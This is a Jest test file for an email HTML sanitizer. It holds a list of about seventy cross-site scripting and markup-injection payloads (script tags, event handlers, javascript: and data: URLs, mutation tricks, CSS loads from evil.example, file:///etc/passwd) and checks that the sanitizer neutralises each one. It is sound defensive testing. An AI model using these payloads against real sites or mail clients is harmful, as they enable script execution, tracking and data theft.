import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parseDocument, DomUtils } from 'htmlparser2';
import { cleanHtml } from './clean.js';
import { casesIn, mailCase } from './mail.builders.js';
import { htmlToText } from './text.js';

const clean = (html: string, inline: [string, string][] = []) => cleanHtml(html, { inline: new Map(inline) });

/** Markup that ran, moved or loaded in some browser, mail program or sanitizer. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror  =  "alert(1)"/>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/api/v1/me" target="_top">x</a>',
  '<a href="//evil.example">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x.png 1x" src="javascript:alert(1)">',
  '<picture><source srcset="https://evil.example/x.png"><img></picture>',
  '<video poster="https://evil.example/x.png"><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body background="https://evil.example/x.png" onload=alert(1)>',
  '<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="background-image:url(https://evil.example/x.png)">x</div>',
  '<div style="background:u\\72l(https://evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="color:red;/*;*/position:absolute">x</div>',
  '<div style="margin-left:-9999px;padding:-1em">x</div>',
  '<div style="font-family:\'x;position:fixed">x</div>',
  '<div style="behavior:url(#x);-moz-binding:url(//evil.example)">x</div>',
  '<p style="display:contents;transform:scale(99)">x</p>',
  '<div id="root" class="modal" name="body" data-x="y" contenteditable tabindex=1 accesskey=x>x</div>',
  '<img data-remote-src="javascript:alert(1)" src="x">',
  '<img src="cid:unknown" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<keygen autofocus onfocus=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a href="https://x.example" target="_self" rel="opener" ping="https://evil.example" download>x</a>',
  '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '<custom-element onclick=alert(1) is="x">x</custom-element>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
];

const ALLOWED_ATTRIBUTE =
  /^(align|alt|bgcolor|border|cellpadding|cellspacing|color|colspan|data-remote-src|dir|face|height|href|lang|nowrap|rel|rowspan|size|span|src|start|style|target|title|type|valign|width)$/;

/** Everything that could run, load or move is absent from the parsed result, and cleaning it again changes nothing. */
function expectHarmless(html: string): void {
  const document = parseDocument(html);
  for (const element of DomUtils.getElementsByTagName('*', document)) {
    expect(element.name).not.toMatch(
      /^(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|template|noscript|video|audio|textarea|title)$/,
    );
    for (const [name, value] of Object.entries(element.attribs)) {
      expect(name).toMatch(ALLOWED_ATTRIBUTE);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/i);
      if (name === 'src') expect(value).toMatch(/^\/files\//);
      if (name === 'data-remote-src') expect(value).toMatch(/^https?:\/\//i);
      if (name === 'style')
        expect(value).not.toMatch(/url|expression|position|@|\\|z-index|behavior|binding|transform:|-\d/i);
    }
  }
}

describe('the HTML of a stranger', () => {
  it.each(ATTACKS)('given %s, nothing runs, loads or moves', (attack) => {
    const { html } = clean(`<p>before</p>${attack}`);
    expect(html).toContain('before');
    expectHarmless(html);
    expect(clean(html).html).toBe(html.replace(/ data-remote-src="[^"]*"/g, ''));
  });

  it('given attacks in any order and broken off anywhere, nothing runs', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.constantFrom(...ATTACKS), fc.nat(120)), { minLength: 1, maxLength: 5 }),
        (attacks) => {
          expectHarmless(clean(attacks.map(([attack, length]) => attack.slice(0, length)).join('')).html);
        },
      ),
      { numRuns: 500 },
    );
  });

  it.each(['wild', 'automatic', 'cases/trim-quote', 'cases/forwarded'])(
    'given the mails in %s, their words stay',
    async (folder) => {
      for (const name of casesIn(folder)) {
        const { html } = await mailCase(`${folder}/${name}`);
        if (html === null) continue;
        const { html: cleaned } = clean(html);
        expectHarmless(cleaned);
        expect(htmlToText(cleaned).replace(/\W/g, '')).toBe(htmlToText(html).replace(/\W/g, ''));
      }
    },
  );

  it.each(['<div>', '<div></x>', '<p><td>', '<svg><g>'])('given %s 100,000 times, only its words are left', (tag) => {
    expect(clean(`${tag.repeat(100_000)}deep <img src=x onerror=alert(1)>`)).toEqual({
      html: '<p>deep</p>',
      remoteImages: 0,
    });
  });

  it('given images from elsewhere, they wait for a click and are counted, pixels too', () => {
    const { html, remoteImages } = clean(
      '<img src="https://x.example/logo.png" alt="Logo"><img src="//t.example/p.gif" width="1" height="1">',
    );
    expect(remoteImages).toBe(2);
    expect(html).toBe(
      '<img alt="Logo" data-remote-src="https://x.example/logo.png" /><img width="1" height="1" data-remote-src="https://t.example/p.gif" />',
    );
  });

  it('given images of its own, they show', () => {
    const { html, remoteImages } = clean('<img src="cid:logo%40x"><img src="CID:missing">', [['logo@x', '/files/1']]);
    expect(html).toBe('<img src="/files/1" /><img />');
    expect(remoteImages).toBe(0);
  });

  it('given a link, it opens apart and tells nothing of us', () => {
    expect(clean('<a href="https://x.example/?a=1&b=2" target="_top">x</a>').html).toBe(
      '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it('given looks that stay in their place, they are kept', () => {
    expect(
      clean(
        '<p style="color: #1F497D; font-family:&quot;Calibri&quot;,sans-serif; mso-fareast-language:EN-US; margin:0cm 0cm 8pt">x</p>',
      ).html,
    ).toBe('<p style="color:#1F497D;font-family:&quot;Calibri&quot;,sans-serif;margin:0cm 0cm 8pt">x</p>');
  });

  it('keeps a mention of our own editor, and lets no mail pretend to one', () => {
    const html = '<p><span class="x" data-type="mention" data-id="7" data-label="Per" data-x="1">@Per</span></p>';
    const inline = new Map<string, string>();
    expect(cleanHtml(html, { inline, own: true }).html).toBe(
      '<p><span data-type="mention" data-id="7" data-label="Per">@Per</span></p>',
    );
    expect(cleanHtml(html, { inline }).html).toBe('<p><span>@Per</span></p>');
    expect(cleanHtml('<span data-type="button">x</span>', { inline, own: true }).html).toBe('<span data-type>x</span>');
  });
});
